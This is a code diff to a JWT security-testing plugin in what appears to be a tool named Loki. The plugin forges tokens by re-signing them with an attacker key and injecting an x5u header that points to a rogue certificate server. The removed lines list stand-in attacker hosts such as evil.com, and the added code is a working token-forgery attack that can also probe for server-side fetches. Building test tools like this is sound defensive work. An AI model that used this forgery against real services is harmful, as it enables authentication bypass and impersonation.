@@ -1,3 +1,25 @@
+/**
+ * X5U Header Injection
+ *
+ * Signs the token with an attacker key Loki never publishes in its JWKS and
+ * sets the `x5u` header to a URL serving a self-signed certificate for that
+ * key, with its `x5t#S256` thumbprint. By default the URL is Loki's own
+ * rogue certificate server, /admin/rogue-x5u/:sessionId, which answers with
+ * the PEM chain RFC 7515 expects there. A client that follows `x5u`
+ * validates the forgery; a client that ignores it and only trusts the
+ * discovery-advertised JWKS finds no key with the header's `kid` and
+ * rejects it.
+ *
+ * Config:
+ * - url: the `x5u` to inject, e.g. an internal service, to test for
+ *   server-side fetches
+ *
+ * Spec: RFC 7515 Section 4.1.5 - x5u is only as trustworthy as the URL's origin
+ * CWE-346: Origin Validation Error
+ */
+
+import { attackerKey } from "../../core/attacker-keys.js";
+import { SUPPORTED_SIGNING_ALGORITHMS, type SigningAlgorithm } from "../../core/key-manager.js";
 import type { MischiefPlugin } from "../types.js";
 
 export const x5uInjection: MischiefPlugin = {
@@ -12,30 +34,49 @@ export const x5uInjection: MischiefPlugin = {
 	},
 	description: "Adds x5u header pointing to attacker-controlled certificate chain",
 
+	options: [
+		{
+			name: "url",
+			type: "string",
+			description: "The x5u injected (default: Loki's rogue certificate server)",
+		},
+	],
+
 	async apply(ctx) {
 		if (!ctx.token) {
 			return { applied: false, mutation: "No token context", evidence: {} };
 		}
 
-		const maliciousUrls = [
-			"https://evil.com/cert-chain.pem",
-			"https://attacker.example.com/x509/chain",
-			"http://localhost:8080/certs",
-			"https://pki.legitimate.com.attacker.com/chain.pem",
-		];
+		const alg = ctx.token.header.alg;
+		if (!SUPPORTED_SIGNING_ALGORITHMS.includes(alg as SigningAlgorithm)) {
+			return { applied: false, mutation: `Not an asymmetric signature: ${alg}`, evidence: {} };
+		}
+
+		const rogueJwks = ctx.token.rogueJwks;
+		const url = (ctx.config.url as string | undefined) ?? rogueJwks?.x5uUrl;
+		if (url === undefined) {
+			const mutation = "No url configured and no rogue chain host";
+			return { applied: false, mutation, evidence: {} };
+		}
 
-		const selectedUrl =
-			maliciousUrls[Math.floor(Math.random() * maliciousUrls.length)] ?? maliciousUrls[0];
+		const attacker = await attackerKey(alg as SigningAlgorithm);
+		rogueJwks?.publishChain(attacker.certificate.pem);
 
-		ctx.token.header.x5u = selectedUrl;
-		ctx.token.header.x5t = "fake-thumbprint-base64url";
+		const originalKid = ctx.token.header.kid;
+		ctx.token.header.x5u = url;
+		ctx.token.header["x5t#S256"] = attacker.certificate.x5tS256;
+		ctx.token.header.kid = attacker.kid;
+		await ctx.token.sign(alg, attacker.pem);
 
 		return {
 			applied: true,
-			mutation: `Injected x5u header: ${selectedUrl}`,
+			mutation: `Injected x5u header: ${url}`,
 			evidence: {
-				injectedX5u: selectedUrl,
-				injectedX5t: ctx.token.header.x5t,
+				injectedX5u: url,
+				x5tS256: attacker.certificate.x5tS256,
+				attackerKid: attacker.kid,
+				originalKid,
+				servedAt: rogueJwks?.x5uUrl ?? null,
 				vulnerability: "Client may fetch X.509 certs from attacker-controlled URL",
 			},
 		};